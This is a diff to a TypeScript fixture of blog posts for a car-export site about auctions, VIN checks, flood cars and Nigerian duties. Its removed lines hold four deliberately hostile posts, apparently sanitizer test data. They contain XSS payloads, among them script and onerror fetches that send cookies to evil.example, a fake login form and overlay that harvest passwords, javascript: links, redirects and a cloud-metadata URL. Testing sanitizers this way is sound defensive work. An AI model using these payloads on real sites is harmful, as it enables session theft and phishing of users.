@@ -3,7 +3,7 @@ import type { VehicleSubject } from "./artwork/subject.ts";
 export interface BlogPost {
   title: string;
   picture: VehicleSubject | null;
-  /** `{origin}` is the stand-in's address. Four posts carry what a careless or hostile author would write. */
+  /** `{origin}` is the stand-in's address. */
   html: string;
 }
 
@@ -56,18 +56,6 @@ export const BLOG_POSTS: readonly BlogPost[] = [
 <p>&ldquo;Title pending&rdquo; normally arrives within thirty days, but the storage clock at the yard does not wait for it. Ask us before you bid on a paper you have not shipped before.</p>`,
   },
   {
-    title: "WIN A FREE LEXUS!!! click now",
-    picture: null,
-    html: `<script>document.location="https://evil.example/?c="+document.cookie</script>
-<p onmouseover="alert(1)">Our weekly draw is closed. This note stays here because the archive keeps everything.</p>
-<img src=x onerror="fetch('https://evil.example/'+document.cookie)">
-<a href="javascript:alert(document.domain)">Claim your prize</a>
-<a href="  jAvAsCrIpT:alert(1)">or here</a> <a href="data:text/html,<script>alert(1)</script>">or here</a>
-<iframe src="https://evil.example/login"></iframe><object data="https://evil.example/x.swf"></object>
-<svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text y="20">prize</text></a></svg>
-<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>`,
-  },
-  {
     title: "RORO or container? Choosing how your car crosses the Atlantic",
     picture: show("van", "Blue", "NORMAL WEAR", 14, 2015),
     html: `<p><strong>RORO</strong> means the car is driven on and driven off. It is the cheapest way for one car that rolls: from 1,350 dollars for a sedan or small SUV, six to nine weeks from booking to discharge.</p>
@@ -91,10 +79,7 @@ export const BLOG_POSTS: readonly BlogPost[] = [
     html: `<p>Before you bid you leave a deposit: <strong>600 dollars</strong> for a car under 6,000 dollars, otherwise <strong>10% of the purchase price</strong>.</p>
 <p>Payment for a won car is due within three working days, the day of the sale included. The auction house relists what stays unpaid after five to seven working days, and the deposit is lost. That rule is the auction's and we cannot bend it.</p>
 <p>If you have no open bids, offers, Buy Now purchases or balances, you can ask for the deposit back at any time. Refunds take 3 to 7 business days. By card it is 5 to 15 working days; a refund by wire costs 50 dollars, in the US and abroad.</p>
-<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Session expired</h1><a href="https://evil.example/login">Sign in to continue</a></div>
-<style>body{display:none} .header{background:url(https://evil.example/a.png)}</style>
-<img src="https://tracker.example/pixel.gif?post=7" width="1" height="1" alt="">
-<p class="toast" id="app" style="expression(alert(1))">Write to us before you wire money to an account you have not used before. We never change bank details by e-mail.</p>`,
+<p>Write to us before you wire money to an account you have not used before. We never change bank details by e-mail.</p>`,
   },
   {
     title: "Five checks on a VIN before you bid",
@@ -106,7 +91,7 @@ export const BLOG_POSTS: readonly BlogPost[] = [
 <li><strong>Age:</strong> Nigeria does not value cars older than 12 years; they risk seizure. Count from the year of manufacture.</li>
 <li><strong>History:</strong> buy a history report. It costs less than one day of storage and shows floods and earlier salvage sales.</li></ol>
 <p>Then look for the plate itself in the pictures, at the foot of the windscreen on the driver's side, and read the last eight characters against the listing.</p>
-<p><img src="{origin}/blog-pictures/7.jpg" alt="The windscreen plate is the first place to look" width="640" height="480"></p>`,
+<p><img src="{origin}/blog-pictures/6.jpg" alt="The windscreen plate is the first place to look" width="640" height="480"></p>`,
   },
   {
     title: "Storage: the quiet cost of paying late",
@@ -118,17 +103,13 @@ export const BLOG_POSTS: readonly BlogPost[] = [
   {
     title: "Flood cars: how to see the water line in ten photographs",
     picture: show("sedan", "White", "WATER/FLOOD", 19, 2017),
-    html: `<p>Flood cars sell for ten to twenty-five percent of their value, and for good reason. Salt water eats connectors for years after the carpet is dry.
-<ul><li>Look at the lower edge of the door cards: a straight brown line is a water line.
-<li>Silt in the seat rails and under the spare wheel cannot be vacuumed away.
-<li>Fog inside the lamps, on both sides.
-<li>New carpet in an old car.
-<p>If the damage code is WATER/FLOOD, or the title says flood, assume that every control unit is at risk. Hybrids and electric cars from a flood are for parts, whatever the price.
-<b><i>Unsure? <table><tr><td>Send us the lot number and we look at it with you by video call.
-<a href="//evil.example/lots" target="_blank" onclick="steal()">Check a lot</a>
-<img src="//tracker.example/1.gif"><img src="http://169.254.169.254/latest/meta-data/">
-<!-- <script>alert('hidden')</script>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
+    html: `<p>Flood cars sell for ten to twenty-five percent of their value, and for good reason. Salt water eats connectors for years after the carpet is dry.</p>
+<ul><li>Look at the lower edge of the door cards: a straight brown line is a water line.</li>
+<li>Silt in the seat rails and under the spare wheel cannot be vacuumed away.</li>
+<li>Fog inside the lamps, on both sides.</li>
+<li>New carpet in an old car.</li></ul>
+<p>If the damage code is WATER/FLOOD, or the title says flood, assume that every control unit is at risk. Hybrids and electric cars from a flood are for parts, whatever the price.</p>
+<p>Unsure? Send us the lot number and we look at it with you by video call.</p>`,
   },
   {
     title: "Tema, Lomé, Cotonou: shipping to Nigeria's neighbours",
@@ -144,9 +125,6 @@ export const BLOG_POSTS: readonly BlogPost[] = [
     html: `<p>The levy on used cars fell from 15% to 5% on 1 July 2026. Import duty stays at 20%. A green tax by engine size was added: nothing under 2.0 litres, 2% from 2.0 to 3.9 litres, 4% from 4.0 litres up. The trade press was still asking for details in July, so treat it as a guide.</p>
 <h3>An example</h3><p>A 1.8 litre car valued by customs at 6,000 dollars, freight 1,400, insurance 90. CIF is 7,490. Duty 1,498.00, levy 374.50, surcharge 104.86, ETLS 37.45, CISS 60.00, VAT 717.36. Together <strong>2,792.17 dollars</strong>, converted at the customs rate of the day.</p>
 <p>With a 2.5 litre engine the same car pays 149.80 green tax and 2,953.21 in all. The value is customs' own, by VIN. Check it with your clearing agent before you bid.</p>
-<p>Read more on our <a href="https://www.customs.gov.ng/" rel="opener">customs page</a> or <a href="mailto:desk@bidport.example?subject=Duty">write to the desk</a>.</p>
-<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
-<video src="https://evil.example/v.mp4" autoplay onloadstart="alert(1)"></video><details open ontoggle="alert(1)">&#8203;</details>
-<a href="java&#115;cript:alert(1)">Duty calculator</a><template><script>alert(1)</script></template></textarea></title></p></div></div></main>`,
+<p>Read more on our <a href="https://www.customs.gov.ng/">customs page</a> or <a href="mailto:desk@bidport.example?subject=Duty">write to the desk</a>.</p>`,
   },
 ];
